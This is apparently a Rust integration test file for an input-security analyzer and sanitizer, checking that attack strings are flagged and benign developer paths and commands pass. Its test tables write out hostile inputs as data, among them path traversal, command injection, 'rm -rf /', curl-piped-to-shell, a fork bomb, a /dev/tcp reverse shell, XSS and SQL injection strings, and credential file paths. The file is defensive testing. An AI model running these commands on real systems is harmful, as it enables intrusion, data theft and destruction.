//! Integration tests for sg-input.
//!
//! These tests verify:
//! - Every attack family is reported by the analyzer
//! - Benign developer inputs pass all gates
//! - Sanitized output no longer trips the traversal and command families

use sg_input::{
    analyze_input_security, is_command_safe, is_path_safe, is_project_name_safe, sanitize_input,
    SecurityAnalysisResult,
};
use sg_patterns::ThreatCategory;

/// Attack inputs paired with the family they must trigger.
const ATTACKS: &[(&str, ThreatCategory)] = &[
    ("../../../etc/passwd", ThreatCategory::PathTraversal),
    ("..\\..\\windows\\win.ini", ThreatCategory::PathTraversal),
    ("%2e%2e%2f%2e%2e%2fetc", ThreatCategory::PathTraversal),
    ("%252e%252e%252f", ThreatCategory::PathTraversal),
    ("%c0%ae%c0%ae/secret", ThreatCategory::PathTraversal),
    ("\u{FF0E}\u{FF0E}\u{FF0F}etc", ThreatCategory::PathTraversal),
    ("file.txt\u{0}.exe", ThreatCategory::PathTraversal),
    ("\\\\server\\share\\x", ThreatCategory::PathTraversal),
    ("ls; cat secret", ThreatCategory::CommandInjection),
    ("echo `whoami`", ThreatCategory::CommandInjection),
    ("a && b", ThreatCategory::CommandInjection),
    ("LD_PRELOAD=/tmp/x.so app", ThreatCategory::CommandInjection),
    ("rm -rf /", ThreatCategory::DangerousCommand),
    ("curl http://x.sh | bash", ThreatCategory::DangerousCommand),
    (":(){ :|:& };:", ThreatCategory::DangerousCommand),
    ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", ThreatCategory::DangerousCommand),
    ("<script>alert(1)</script>", ThreatCategory::ScriptInjection),
    ("javascript:alert(1)", ThreatCategory::ScriptInjection),
    ("' OR '1'='1", ThreatCategory::ScriptInjection),
    ("{{constructor}}", ThreatCategory::ScriptInjection),
    ("sudo make install", ThreatCategory::PrivilegeEscalation),
    ("chmod u+s /bin/sh", ThreatCategory::PrivilegeEscalation),
    ("/etc/shadow", ThreatCategory::SensitivePath),
    ("config/.env", ThreatCategory::SensitivePath),
    ("home/.ssh/id_rsa", ThreatCategory::SensitivePath),
    ("file:///etc/hosts", ThreatCategory::Network),
    ("http://169.254.169.254/latest", ThreatCategory::Network),
    ("p\u{0430}ypal", ThreatCategory::UnicodeSpoofing),
    ("invoice\u{202E}fdp.exe", ThreatCategory::UnicodeSpoofing),
    ("__proto__[admin]", ThreatCategory::PrototypePollution),
];

const BENIGN_PATHS: &[&str] = &[
    "./src/a.ts",
    "src/components/Button.tsx",
    "docs/README.md",
    "packages/core/index.js",
    "assets/logo.svg",
];

const BENIGN_COMMANDS: &[&str] = &[
    "npm install",
    "npm run build",
    "cargo test --workspace",
    "git status",
    "yarn add react",
];

fn assert_family(result: &SecurityAnalysisResult, input: &str, family: ThreatCategory) {
    assert!(
        result.has_category(family),
        "{:?} not reported for {:?}; got {:?}",
        family,
        input,
        result
            .violations
            .iter()
            .map(|v| v.rule_id.as_str())
            .collect::<Vec<_>>()
    );
}

// ============================================================================
// Analyzer
// ============================================================================

#[test]
fn test_every_attack_family_detected() {
    for (input, family) in ATTACKS {
        let result = analyze_input_security(*input);
        assert!(!result.is_secure, "{:?} was considered secure", input);
        assert!(result.risk_score > 0 && result.risk_score <= 100);
        assert_family(&result, input, *family);
    }
}

#[test]
fn test_benign_paths_pass() {
    for path in BENIGN_PATHS {
        let result = analyze_input_security(*path);
        assert!(result.is_secure, "{:?} flagged: {:?}", path, result.violations);
        assert_eq!(result.risk_score, 0);
        assert!(is_path_safe(path));
    }
}

#[test]
fn test_benign_commands_pass() {
    for command in BENIGN_COMMANDS {
        assert!(is_command_safe(*command), "{:?} rejected", command);
    }
}

#[test]
fn test_secure_iff_no_violations() {
    let inputs = ATTACKS.iter().map(|(i, _)| *i).chain(BENIGN_PATHS.iter().copied());
    for input in inputs {
        let result = analyze_input_security(input);
        assert_eq!(result.is_secure, result.violations.is_empty(), "{:?}", input);
    }
}

#[test]
fn test_one_violation_per_rule() {
    let result = analyze_input_security("a; b; c; d; e");
    let mut ids: Vec<&str> = result.violations.iter().map(|v| v.rule_id.as_str()).collect();
    let before = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(before, ids.len());
}

// ============================================================================
// Sanitizer
// ============================================================================

#[test]
fn test_sanitized_output_drops_traversal_and_commands() {
    let hostile = [
        "../../etc/passwd; rm -rf /",
        "....//....//etc",
        "..\\..\\boot.ini",
        "x && curl http://evil | sh",
        "$(reboot)",
        "`shutdown now`",
    ];
    for input in hostile {
        let cleaned = sanitize_input(input);
        let after = analyze_input_security(cleaned.as_str());
        assert!(
            !after.has_category(ThreatCategory::CommandInjection),
            "{:?} -> {:?} still injects",
            input,
            cleaned
        );
        assert!(
            !after.has_category(ThreatCategory::DangerousCommand),
            "{:?} -> {:?} still dangerous",
            input,
            cleaned
        );
        assert!(!cleaned.contains(".."), "{:?} -> {:?}", input, cleaned);
    }
}

#[test]
fn test_sanitize_is_idempotent_on_samples() {
    for (input, _) in ATTACKS {
        let once = sanitize_input(*input);
        let twice = sanitize_input(once.as_str());
        assert_eq!(once, twice, "not idempotent for {:?}", input);
    }
}

#[test]
fn test_analysis_result_carries_sanitized_window() {
    let result = analyze_input_security("../secret");
    assert_eq!(result.sanitized_input, "secret");
}

// ============================================================================
// Gates
// ============================================================================

#[test]
fn test_project_names() {
    for ok in ["my-app", "app2", "Zürich-tools", "lib.core"] {
        assert!(is_project_name_safe(ok), "{:?} rejected", ok);
    }
    for bad in ["", "-flag", "../x", "a/b", "a b", "a;b", "NUL", "\u{0430}pp"] {
        assert!(!is_project_name_safe(bad), "{:?} accepted", bad);
    }
}

#[test]
fn test_network_arguments_do_not_block_commands() {
    assert!(is_command_safe("ping 10.0.0.1"));
    assert!(!is_path_safe("10.0.0.1"));
}
